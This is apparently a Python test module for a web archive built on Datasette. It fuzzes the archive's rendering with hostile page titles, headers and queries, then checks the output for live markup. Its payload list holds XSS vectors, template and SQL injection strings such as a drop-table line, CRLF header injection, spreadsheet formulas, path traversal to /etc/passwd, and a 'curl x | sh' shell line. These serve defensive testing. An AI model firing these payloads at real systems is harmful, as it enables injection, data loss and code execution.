"""Hostile titles, bodies, addresses and queries without end, the same ones on every machine, and what harm looks like.

Each is a payload in an envelope: what a page, a keeper's list or a visitor could bring to a template, a header, a log
or an SQL statement. A payload that ran would set `window.pwned`.
"""

from __future__ import annotations

import html
import random
import re
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

from selectolax.lexbor import LexborHTMLParser

from scraper.archive import Archive
from scraper.config import Source, WatchList
from tests.archive.watching import PARAGRAPHS, Watch

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ACT = "window.pwned=1"
PAYLOADS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt src=data:text/javascript,{ACT}></sCrIpT>",
    f"<img src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><a xlink:href='javascript:{ACT}'><text y=9>x</text></a></svg>",
    f"<svg><script>{ACT}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<a href=' jAvAsCrIpT:{ACT}'>x</a>",
    f"<a href='java\tscript:{ACT}'>x</a>",
    f"<form action='javascript:{ACT}'><button>x</button></form>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    "<base href='https://elsewhere.example/'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href='https://elsewhere.example/x.css'>",
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    "{{7*7}}{% raw %}{{ config }}{% include '/etc/passwd' %}",
    f"${{{ACT}}}#{{{ACT}}}<%= {ACT} %>",
    "'; drop table sources; --",
    '" or 1=1 union select body from captures --',
    "]) or exists(select 1) or ([",
    'NEAR(a b, 3) AND (* OR col:x) NOT "',
    "%0d%0aSet-Cookie: a=b%0d%0a\r\nX-Injected: 1\r\n\r\n<b>",
    '=HYPERLINK("https://elsewhere.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(id) `id` ; curl x | sh #",
    "::set-output name=a::b\n::add-mask::x",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\u202e<gnp.exe>\u202c\u2066\u200b\ufeff\u2028\u2029",
    "a\u0300" * 40 + "\U0001f468\u200d\U0001f469" * 20,
    "../../../../etc/passwd\\..\\..\\x",
    "&lt;script&gt;&#x3c;script&#62;&amp;lt;",
    "%s%s%s%n{0.__class__}%(x)s",
    "A" * 4000,
    "%_\\'\"`[];--/**/",
)
ENVELOPES = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea></script></style>{}",
    "-->{}<!--",
    "]]>{}",
    "`{}`",
    "the harbour {} and the ferry",
    "' {} \"",
    "\\{}\\",
    "<b {}>",
    "<x y={} z=1>",
    "\u202d{}",
    "&quot;{}&apos;",
    "\u00a0{}\u00a0",
    "//elsewhere.example/{}",
    "javascript:{}",
    "data:text/html,{}",
    "https://elsewhere.example/{}",
    "https://user:word@elsewhere.example:99/{}#{}",
    "\n{}\n",
    "?q={}&",
    "{}{}",
    "<!DOCTYPE html><html><body>{}",
    "<![CDATA[{}]]>",
    "<?xml version='1.0'?>{}",
)
WITH_ADDRESS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")
NOT_HERE = ("iframe", "object", "embed", "base", "math", "marquee", "template", "frame")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202d\u202e]")


def texts(count: int) -> list[str]:
    """So many different hostile texts, drawn from all pairs of payload and envelope; never more than there are."""
    pairs = [envelope.replace("{}", payload) for envelope in ENVELOPES for payload in PAYLOADS]
    random.Random(20260309).shuffle(pairs)
    return pairs[:count]


def build(path: Path, hostile: list[str]) -> None:
    """An archive with a source for each text: in its list entry, its address, and two versions of its page."""
    with Archive(path) as archive:
        watch = Watch(archive)
        for at, text in enumerate(hostile):
            url = f"https://www.example.gov/{at}/{quote(text[:200])}"
            watch.sources[f"h{at}"] = Source(f"h{at}", url, title=text, publisher=text[:80], tags=(text[:60],))
        archive.sync(WatchList(tuple(watch.sources.values())), watch.now)
        for at, text in enumerate(hostile):
            other = hostile[at - 1]
            watch.look(body(text, "of 48 million"), f"h{at}", headers=headers(text), hours=0.01)
            watch.look(body(text, other), f"h{at}", headers=headers(other), final_url=landing(text), hours=0.01)


def body(text: str, other: str) -> bytes:
    """A page that says the text as text and brings it as markup as well, in every place that is read."""
    shown, quoted, moved = html.escape(text), html.escape(text, quote=True), html.escape(other)
    head = f'<title>{shown}</title><meta name="author" content="{quoted}"><link rel="canonical" href="{quoted}">'
    links = f'<a href="{quoted}">{shown}</a><img src="{quoted}" alt="{quoted}">'
    main = f"<h1>{shown}</h1><p>{PARAGRAPHS[0]} {shown}</p><p>{PARAGRAPHS[1]} {moved}</p><p>{PARAGRAPHS[2]} {links}</p>"
    return (
        f'<!doctype html><html lang="{quoted}"><head><meta charset="utf-8">{head}</head>'
        f"<body><main>{main}<ul><li>{shown}</li></ul></main><p>{text}</p></body></html>"
    ).encode("utf-8", "surrogatepass")


def headers(text: str) -> tuple[tuple[str, str], ...]:
    """Response headers as hostile as a server can send them."""
    line = text.replace("\r", " ").replace("\n", " ")[:500]
    return (("Content-Type", "text/html; charset=utf-8"), ("ETag", f'"{line}"'), ("Server", line))


def landing(text: str) -> str:
    return f"https://www.example.gov/landed?to={text[:100]}"


def addresses(at: int, text: str) -> Iterator[str]:
    """Every kind of page that shows the text, and the text as every kind of question."""
    root, asked = "/-/redline/archive", quote(text[:400], safe="")
    yield f"{root}/h{at}"
    yield f"{root}/h{at}/2"
    yield f"{root}/h{at}/1..2"
    yield f"{root}/-/search?q={asked}"
    yield f"{root}?publisher={asked}&tag={asked}&class={asked}&kind={asked}&before={asked}"
    yield f"{root}/{asked}/{asked}"
    yield f"{root}/h{at}?at={asked}&old={asked}&new={asked}"
    yield f"/archive/sources?title={asked}&_sort={asked}"
    yield f"/archive/phrase_history?phrase={asked}"
    yield f"/archive?sql={asked}"


SHARED = ("/", "/-/redline/archive?all=1", "/-/redline/archive/-/pages", "/archive/changes", "/robots.txt")


def harm(page: str) -> list[str]:
    """What in a page's HTML could act, lead astray, or was not meant to be markup, as a browser parses it."""
    tree = LexborHTMLParser(page)
    ours = "redline.css" in page  # Datasette's own pages pass control characters on, in which a browser sees nothing
    found = [f"control character {match[0]!r}" for match in [CONTROL.search(page)] if ours and match]
    for element in tree.css("*"):
        tag, attributes = str(element.tag), element.attributes
        if tag in NOT_HERE or (tag == "img") or (tag == "meta" and "http-equiv" in attributes):
            found.append(f"<{tag}>")
        if tag in ("script", "style") and "pwned" in element.text():
            found.append(f"<{tag}> with the payload")
        for name, value in attributes.items():
            # Datasette 1.0 has a handler of its own on a button.
            if (name.startswith("on") and (ours or "pwned" in (value or ""))) or name == "srcdoc":
                found.append(f"<{tag} {name}>")
            if name in WITH_ADDRESS and not leads_somewhere_harmless(tag, value or ""):
                found.append(f"<{tag} {name}={(value or '')[:60]!r}>")
    return found


def leads_somewhere_harmless(tag: str, target: str) -> bool:
    try:
        parts = urlsplit(target.strip())
    except ValueError:
        return False
    if parts.scheme not in ("", "http", "https"):
        return False
    return tag == "a" or parts.netloc in ("", "localhost")
